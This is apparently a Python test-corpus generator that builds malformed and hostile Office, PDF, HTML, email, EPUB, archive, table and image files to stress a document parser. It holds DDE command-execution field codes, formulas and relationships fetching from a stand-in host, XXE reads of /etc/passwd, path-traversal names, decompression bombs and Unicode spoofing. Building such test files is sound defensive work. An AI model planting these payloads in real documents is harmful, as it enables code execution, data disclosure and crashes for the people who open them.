"""Files that are made to break what reads them: each of a few kilobytes, each an attack of its own kind."""

from __future__ import annotations

import io
import json
import struct
import zipfile
import zlib
from collections.abc import Iterator

from nasty_forms import (
    PACKAGE,
    TOWNS,
    File,
    R,
    S,
    W,
    doubled,
    page,
    paragraphs,
    pdf,
    plan,
    relations,
    rows,
    word,
    workbook,
    zipped,
)

__all__ = ["attacks"]

HOST = "http://nasty.invalid"
TEXT = plan(7)
LINE = b"BT /F 12 Tf 50 700 Td (Work plan 2026: plant 800 trees.) Tj ET"


def attacks() -> Iterator[File]:
    """Name and bytes of every attack."""
    for kind in (_word, _sheets, _portable, _pages, _mails_and_books, _archives, _tables, _names, _pictures):
        yield from kind()


def _external(kind: str, target: str) -> str:
    return f'<Relationship Id="x1" Type="{R}/{kind}" Target="{target}" TargetMode="External"/>'


def _word() -> Iterator[File]:
    body = paragraphs(TEXT)
    rels = "word/_rels/document.xml.rels"
    chunk = '<w:altChunk r:id="x1"/>'
    for kind in ("aFChunk", "subDocument", "oleObject", "header", "frame", "styles", "footnotes"):
        inserted = '<w:subDoc r:id="x1"/>' if kind == "subDocument" else chunk
        for target in (f"{HOST}/x", "file:///etc/passwd", "..\\..\\outside.txt"):
            part = relations(_external(kind, target))
            yield f"word-external-{kind}-{len(target)}.docx", word(inserted + body, {rels: part})
    itself = relations(f'<Relationship Id="x1" Type="{R}/aFChunk" Target="document.xml"/>')
    yield "word-inserts-itself.docx", word(chunk * 20 + body, {rels: itself})
    climbing = relations(f'<Relationship Id="x1" Type="{R}/styles" Target="../../../../../etc/passwd"/>')
    yield "word-relation-climbs.docx", word(body, {rels: climbing})
    field = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{}</w:instrText></w:r><w:r>'
        '<w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>看这里</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    codes = (
        'DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"',
        "DDE excel x",
        f'INCLUDETEXT "{HOST}/t.docx"',
        "QUOTE 1 2",
    )
    for i, code in enumerate(codes):
        yield f"word-field-{i}.docx", word(field.format(code) + body)
        simple = f'<w:p><w:fldSimple w:instr="{code.replace(chr(34), "")}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
        yield f"word-field-simple-{i}.docx", word(simple + body)
    yield "word-field-open.docx", word(field.format("PAGE").replace('"end"', '"begin"') * 500 + body)
    yield (
        "word-macro.docm",
        word(body, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(500)}),
    )
    styles = f'<w:styles xmlns:w="{W}"><w:style w:styleId="a"><w:name w:val="{"标题" * 9000} 1"/></w:style></w:styles>'
    yield "word-style-name.docx", word(body, {"word/styles.xml": styles})
    numbering = (
        f'<w:numbering xmlns:w="{W}"><w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start w:val="{{}}"/>'
        '<w:numFmt w:val="{}"/><w:lvlText w:val="{}"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/>'
        "</w:num></w:numbering>"
    )
    listed = '<w:p><w:pPr><w:numPr><w:ilvl w:val="{}"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>植树</w:t></w:r></w:p>'
    for i, (start, form, text, level) in enumerate(
        (
            ("999999999999", "chineseCounting", "%1、", "0"),
            ("-7", "upperRoman", "%1.", "0"),
            ("2000000000", "upperLetter", "%1" * 2000, "0"),
            ("x", "no such", "%9%8%7", "8"),
            ("1", "decimal", "%1", "99999999"),
        )
    ):
        part = numbering.format(start, form, text)
        yield f"word-numbering-{i}.docx", word(listed.format(level) * 30 + body, {"word/numbering.xml": part})
    twice = [("word/document.xml", word_xml(body)), ("word/document.xml", word_xml(paragraphs(plan(8))))]
    yield "word-two-documents.docx", doubled([*_others(word(body)), *twice])
    yield "word-two-documents-turned.docx", doubled([*_others(word(body)), *reversed(twice)])
    yield "word-long-run.docx", word(f"<w:p><w:r><w:t>{'造林三千亩，' * 4_000}</w:t></w:r></w:p>")
    yield "word-many-runs.docx", word("<w:p>" + "<w:r><w:t>林</w:t></w:r>" * 60_000 + "</w:p>" + body)
    nested = "<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val='60'/></w:tcPr>" * 100 + body
    yield "word-nested-tables.docx", word(nested + "</w:tc></w:tr></w:tbl>" * 100)
    yield "word-wide-table.docx", word(f"<w:tbl><w:tr>{'<w:tc><w:p/></w:tc>' * 20_000}</w:tr></w:tbl>{body}")
    deep = "<w:sdt><w:sdtContent><w:ins><w:smartTag>" * 60 + body
    yield "word-deep-holders.docx", word(deep + "</w:smartTag></w:ins></w:sdtContent></w:sdt>" * 60)
    yield "word-bidi.docx", word(paragraphs(f"\u202e{TEXT}\u202c\u2066\u200f"))


def word_xml(body: str) -> bytes:
    """The main part of a Word file."""
    return f'<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>{body}</w:body></w:document>'.encode()


def _others(data: bytes) -> list[tuple[str, bytes]]:
    """The parts of a Word file but its main one."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [(n, archive.read(n)) for n in archive.namelist() if n != "word/document.xml"]


def _cell(place: str, text: str) -> str:
    return f'<c r="{place}" t="inlineStr"><is><t>{text}</t></is></c>'


def _sheets() -> Iterator[File]:
    table = [["任务", "目标"], ["林业", "植树800亩"]]
    good = rows(table)
    yield "sheet-far-row.xlsx", workbook(f'{good}<row r="2000000000">{_cell("A2000000000", "x")}</row>')
    shared = f'<sst xmlns="{S}"><si><t>{"培训" * 225_000}</t></si></sst>'
    many = "".join(f'<row r="{i}"><c r="A{i}" t="s"><v>0</v></c></row>' for i in range(1, 2999))
    strings = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
    types = (
        f'<Types xmlns="{PACKAGE}/content-types"><Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override '
        'PartName="/xl/sheet.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        f'<Override PartName="/xl/sharedStrings.xml" ContentType="{strings}"/></Types>'
    )
    yield (
        "sheet-one-string.xlsx",
        workbook(many, {"[Content_Types].xml": types, "xl/sharedStrings.xml": shared}),
    )
    edges = "".join(
        f'<row r="{i}">{_cell(f"A{i}", "甲")}{_cell(f"XFD{i}", "乙")}</row>' for i in range(1, 4001)
    )
    yield "sheet-both-edges.xlsx", workbook(edges)
    area = '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    yield "sheet-merged.xlsx", workbook(good, rest=area)
    yield "sheet-dimension.xlsx", workbook(good).replace(b"", b"")
    for i, cell in enumerate(
        (
            "<c r=\"A3\"><f>cmd|'/C calc'!A0</f><v>1</v></c>",
            f'<c r="A3"><f>WEBSERVICE("{HOST}")</f></c>',
            '<c r="A3" t="s"><v>999999</v></c>',
            '<c r="A3" t="s"><v>-1</v></c>',
            '<c r="A3"><v>1e999</v></c>',
            '<c r="A3"><v>nan</v></c>',
            '<c r="A3" s="999999"><v>5</v></c>',
            '<c r="A3" t="d"><v>99999-99-99</v></c>',
            '<c r="A3" t="inlineStr"><is><t>_x0000__x001F__xD800_</t></is></c>',
            '<c r="ZZZZZZ3" t="inlineStr"><is><t>x</t></is></c>',
            '<c r="3" t="inlineStr"><is><t>x</t></is></c>',
            '<c r="A3" t="inlineStr"><is><t>' + "长" * 200_000 + "</t></is></c>",
        )
    ):
        yield f"sheet-cell-{i:02}.xlsx", workbook(f'{good}<row r="3">{cell}</row>')
    link = (
        f'<externalLink xmlns="{S}"><ddeLink ddeService="cmd" ddeTopic="/C calc"><ddeItems><ddeItem name="A0"/></ddeItems>'
        "</ddeLink></externalLink>"
    )
    outside = relations(_external("externalLinkPath", f"{HOST}/b.xlsx"))
    yield (
        "sheet-dde.xlsx",
        workbook(
            good,
            {
                "xl/externalLinks/externalLink1.xml": link,
                "xl/externalLinks/_rels/externalLink1.xml.rels": outside,
            },
        ),
    )
    places = f'<hyperlinks><hyperlink xmlns:r="{R}" ref="A1" r:id="x1"/></hyperlinks>'
    yield (
        "sheet-hyperlink.xlsx",
        workbook(
            good, {"xl/_rels/sheet.xml.rels": relations(_external("hyperlink", "javascript:x"))}, places
        ),
    )
    sheets = "".join(f'<sheet name="S{i}" sheetId="{i}" r:id="r1"/>' for i in range(1, 400))
    yield (
        "sheet-many-sheets.xlsx",
        workbook(
            good,
            {"xl/workbook.xml": f'<workbook xmlns="{S}" xmlns:r="{R}"><sheets>{sheets}</sheets></workbook>'},
        ),
    )
    yield "sheet-deep.xlsx", workbook("<row>" * 30_000 + "</row>" * 30_000)
    bidi = "\u202e表\u202c\u2066"
    named = f'<workbook xmlns="{S}" xmlns:r="{R}"><sheets><sheet name="{bidi}" sheetId="1" r:id="r1"/></sheets></workbook>'
    yield "sheet-name.xlsx", workbook(good, {"xl/workbook.xml": named})
    yield (
        "sheet-second-part.xlsx",
        workbook(good, {"xl/sheet2.xml": b"<worksheet><sheetData>" + b"<row/>" * 90_000}),
    )


def _portable() -> Iterator[File]:
    entries = (
        b"/Type/XObject/Subtype/Form/BBox[0 0 600 800]/Resources<</Font<</F 5 0 R>>/XObject<</X %d 0 R>>>>"
    )

    def stream(head: bytes, data: bytes) -> bytes:
        return b"<<%s/Length %d>>stream\n%s\nendstream" % (head, len(data), data)

    forms = [stream(entries % (7 + i), b"/X Do " * 10) for i in range(7)]
    calls = stream(b"", LINE + b" /X Do")
    yield "pdf-form-in-form.pdf", pdf(b"", *forms, stream(entries % 6, LINE), content=calls)
    yield "pdf-form-in-itself.pdf", pdf(b"", stream(entries % 6, LINE + b"/X Do"), content=calls)
    packer = zlib.compressobj(9)
    parts = [packer.compress(LINE + b"\n"), *(packer.compress(b" " * 10**6) for _ in range(1000))]
    twice = zlib.compress(b"".join(parts) + packer.flush(), 9)
    yield "pdf-packed-twice.pdf", pdf(b"", content=stream(b"/Filter[/FlateDecode/FlateDecode]", twice))
    filters = b"/Filter[" + b"/ASCIIHexDecode" * 300 + b"]"
    yield "pdf-many-filters.pdf", pdf(b"", content=stream(filters, LINE.hex().encode() + b">"))
    good = pdf(b"Plan of 2026")
    yield (
        "pdf-one-page-often.pdf",
        good.replace(b"/Kids[3 0 R]/Count 1", b"/Kids[" + b"3 0 R " * 20_000 + b"]/Count 20000"),
    )
    yield "pdf-endless-page.pdf", good.replace(b"[0 0 600 800]", b"[-1e38 -1e38 1e38 1e38]")
    yield "pdf-turned-page.pdf", good.replace(b"[0 0 600 800]", b"[600 800 0 0]/Rotate 77/UserUnit 1e9")
    at = good.rindex(b"startxref")
    xref = int(good[at:].split()[1])
    yield "pdf-table-loop.pdf", good.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % xref)
    yield "pdf-table-far.pdf", good.replace(b"startxref\n%d" % xref, b"startxref\n99999999999")
    yield "pdf-many-objects.pdf", good.replace(b"xref\n0 6", b"xref\n0 99999999")
    marks = b"BT /F 12 Tf " + b"1 0 0 1 %d %d Tm (ab) Tj " * 1
    scattered = b"".join(marks % (i * 37 % 600, i * 91 % 800) for i in range(20_000)) + b"ET"
    yield "pdf-scattered.pdf", pdf(b"", content=stream(b"", scattered))
    grid = b"".join(b"%d 0 m %d 800 l S 0 %d m 600 %d l S " % (i, i, i, i) for i in range(0, 600, 1))
    yield "pdf-lines.pdf", pdf(b"", content=stream(b"", grid + LINE))


def _pages() -> Iterator[File]:
    body = "".join(f"<p>{line}</p>" for line in TEXT.split("\n"))
    long = "全面落实各项工作部署，做好督促检查工作。" * 15_000
    yield "page-punycode.html", f"<html><meta charset=punycode><body><p>{long}</p></body></html>".encode()
    for i, part in enumerate(
        (
            "<table><tr><td colspan=1000000000 rowspan=1000000000>甲</td><td>乙</td></tr></table>",
            "<table>" + "<tr>" * 3000 + "<td>甲" * 3000 + "</table>",
            "<table><tr>" + "<td>甲</td>" * 30_000 + "</tr></table>",
            "<br>" * 100_000,
            "<plaintext>" + "甲<b>" * 5000,
            "<textarea>" * 3000,
            "<select>" + "<option>甲" * 20_000,
            "<img src='data:image/png;base64," + "A" * 3_000_000 + "'>",
            "<svg>" * 5000 + "</svg>" * 5000,
            "<math>" * 2000,
            "<a href='" + "x" * 500_000 + "'>甲</a>",
            "<ol start=-999999999999><li>甲</ol>" * 2000,
            "<p hidden>甲</p>" * 20_000,
            "<ruby>林<rt>lín</rt></ruby>" * 5000,
            "&#x202e;&#0;&#x10ffff;&#xd800;&#99999999999;" * 3000,
            "<div style='display:none'>" * 400 + "甲",
            "<form><input value='" + "甲" * 50_000 + "'></form>",
            "<frame><frameset>" * 1000,
        )
    ):
        yield f"page-part-{i:02}.html", f"<html><body>{part}{body}</body></html>".encode()
    yield "page-in-page.html", page(TEXT) * 60
    yield "page-wrong-mark.html", b"\xff\xfe" + page(TEXT)
    yield "page-two-charsets.html", b"<meta charset=gbk><meta charset=big5>" + page(TEXT)


def _mails_and_books() -> Iterator[File]:
    head = b"From: a@example.invalid\nSubject: =?utf-8?b?" + b"5p6X" * 3000 + b"?=\nMIME-Version: 1.0\n"
    nest = b"".join(b"Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (i, i) for i in range(200))
    yield "mail-deep.eml", head + nest + b"\n" + TEXT.encode()
    yield "mail-broken-base64.eml", head + b"Content-Transfer-Encoding: base64\n\n====A" + b"!" * 999
    yield "mail-charset.eml", head + b"Content-Type: text/plain; charset=punycode\n\n" + b"abc-" * 90_000
    yield "mail-headers.eml", head + b"X: y\n" * 90_000 + b"\n" + TEXT.encode()
    kind = b'Content-Type: text/plain\nContent-Disposition: attachment; filename="%s"\n\n%s\n'
    names = (b"../../outside-made.txt", b"\x1b[31m.txt", b"=?utf-8?b?4oCudHh0LmV4ZQ==?=", b"a" * 3000, b"")
    mixed = b"Content-Type: multipart/mixed; boundary=q\n\n"
    held = b"".join(b"--q\n" + kind % (name, TEXT.encode()) for name in names)
    yield "mail-names.eml", head + mixed + held + b"--q--\n"
    many = b"".join(b"--q\n" + kind % (b"%d.txt" % i, b"x") for i in range(300))
    yield "mail-many.eml", head + mixed + many + b"--q--\n"
    order = '<itemref idref="c"/>' * 5000
    items = '<item id="c" href="../../../outside.txt"/><item id="c" href="c.xhtml"/>'
    opf = f'<package xmlns="http://www.idpf.org/2007/opf"><manifest>{items}</manifest><spine>{order}</spine></package>'
    book = {"mimetype": "application/epub+zip", "c.xhtml": page(TEXT)}
    yield "book-one-chapter-often.epub", zipped({**book, "book.opf": opf})
    entity = '<!DOCTYPE p [<!ENTITY e SYSTEM "file:///etc/passwd">]><p>&e;</p>'
    yield "book-entity.epub", zipped({**book, "book.opf": entity})
    yield "book-many-lists.epub", zipped({**book, **{f"{i}.opf": opf for i in range(300)}})
    yield (
        "saved-no-end.mht",
        b"MIME-Version: 1.0\nContent-Type: multipart/related; boundary=x\n\n" + b"--x\n" * 3000,
    )


def _archives() -> Iterator[File]:
    inner = zipped({"a.txt": TEXT + " " * 1_000_000})
    yield "zip-of-60.zip", zipped({f"{i:03}.zip": inner for i in range(60)})
    yield "zip-doubled.zip", doubled([("a.txt", plan(8).encode()), ("a.txt", plan(9).encode())])
    broken = bytearray(zipped({"a.txt": plan(8), "b.txt": plan(9), "c.txt": plan(10)}))
    at = broken.index(b"b.txt") + 12
    broken[at : at + 20] = bytes(20)
    yield "zip-one-broken.zip", bytes(broken)
    yield "zip-before.zip", b"MZ" + bytes(4000) + zipped({"a.txt": TEXT})
    noted = zipped({"a.txt": TEXT})
    yield "zip-comment.zip", noted[:-2] + struct.pack("<H", 65535) + b"PK\x05\x06" * 16_383 + b"xyz"
    lookalikes = (
        "\u0440lan.txt",
        "plan.txt",
        "pl\u0430n.txt",
        "plan\u200b.txt",
        "\u202etxt.nalp",
        "ｐlan.txt",
    )
    yield "zip-look-alikes.zip", zipped(dict.fromkeys(lookalikes, TEXT))
    yield "zip-long-path.zip", zipped({"d/" * 3000 + "a.txt": TEXT})
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        for i, method in enumerate((zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA, zipfile.ZIP_STORED)):
            archive.writestr(zipfile.ZipInfo(f"{i}.txt"), TEXT, compress_type=method)
    yield "zip-methods.zip", packed.getvalue()
    dictionary = bytearray(packed.getvalue())
    spot = dictionary.index(b"1.txt") + 5 + 5
    dictionary[spot : spot + 4] = b"\xff\xff\xff\xff"
    yield "zip-lzma-dictionary.zip", bytes(dictionary)


def _tables() -> Iterator[File]:
    line = TEXT.replace("\n", " ")
    yield "table-comma.csv", f"id,text\na,{line[:60]},{line[60:]}\nb,{line}\n".encode()
    yield "table-doubled.csv", f"text,id,text\n{line},a,{line[::-1]}\n".encode()
    yield "table-open.csv", f'id,text\na,"{line}\nb,{line}\nc,{line}\n'.encode()
    yield "table-ids.csv", f"id,text\na,{line}\na,{line}\na.csv~2,{line}\n".encode()
    wide = 100_000
    yield "table-wide.csv", (",".join(["甲"] * wide) + "\n" + ",".join([line, *["x"] * (wide - 1)])).encode()
    yield "table-wide-names.csv", (",".join(f"c{i}" for i in range(wide)) + "\n" + line).encode()
    yield "table-short-lines.csv", b"a\n" * 1_100_000
    yield "table-wide.jsonl", json.dumps({f"c{i}": "x" for i in range(wide)} | {"text": line}).encode()
    yield "table-controls.jsonl", json.dumps({"id": "\x1b[2J\u202e\u0000", "text": line}).encode()
    yield "table-numbers.jsonl", b'{"text": ' + b"9" * 4000 + b', "id": 1e400, "n": -0}'
    yield "table-quotes.csv", ('"' * 300_001 + "\n").encode()
    yield "table-blank-names.csv", ("," * 20_000 + "\n" + line).encode()
    import pyarrow as pa
    from pyarrow import parquet

    for name, times, text in (("rows", 3_000_000, TEXT[:30]), ("characters", 900, TEXT * 90)):
        column = pa.DictionaryArray.from_arrays(pa.array([0] * times, pa.int32()), pa.array([text]))
        buffer = io.BytesIO()
        parquet.write_table(pa.table({"text": column}), buffer, compression="zstd")
        yield f"table-{name}.parquet", buffer.getvalue()
    deep = pa.array([1])
    for _ in range(60):
        deep = pa.ListArray.from_arrays(pa.array([0, 1]), deep)
    buffer = io.BytesIO()
    parquet.write_table(pa.table({"text": [line], "deep": deep}), buffer)
    yield "table-deep.parquet", buffer.getvalue()


def _names() -> Iterator[File]:
    town = TOWNS[3]
    bodies = {
        "title-turned": f"\u202e{town}2026年工作计划\u202c",
        "title-isolated": f"\u2066{town}\u20692026年工作计划\u2069",
        "title-hidden": f"{town[0]}\u200b{town[1]}\u2060{town[2]}2026年工作计划",
        "title-tags": f"{town}2026年工作计划\U000e0041\U000e0042",
        "title-look-alike": f"{town}2О26年工作计划",
        "title-escape": f"{town}\x1b[8m2026年\x1b[0m工作计划",
        "title-wide": "\ufdfd" * 60 + f"{town}2026年工作计划",
        "title-formula": f"=HYPERLINK({HOST}){town}2026年工作计划",
    }
    rest = TEXT.split("\n", 1)[1]
    for name, title in bodies.items():
        yield f"{name}.txt", f"{title}\n{rest}".encode()
    for i, name in enumerate(
        (
            "\u202etxt.nalp-a",
            "pl\u0430n-b.txt",
            "plan\u200b-c.txt",
            "\u2066plan-d\u2069.txt",
            "a\x7f-e.txt",
            "\u0085-f.txt",
        )
    ):
        yield f"names/{name}", plan(50 + i).encode()
    # Figures that a reader of the report must not take for others.
    yield "figures-turned.txt", TEXT.replace("800", "\u202e008\u202c").encode()
    yield (
        "figures-other-digits.txt",
        f"{town}2026年工作计划\n一、目标\n植树٣٠٠亩，修路௧௨公里，就业８００人，培训𝟗𝟗人。\n".encode(),
    )


def _pictures() -> Iterator[File]:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    for width, height in ((60_000, 60_000), (1, 2_000_000_000), (0, 0)):
        header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        data = chunk(b"IDAT", zlib.compress(bytes(1000)))
        yield f"picture-{width}.png", b"\x89PNG\r\n\x1a\n" + header + data + chunk(b"IEND", b"")
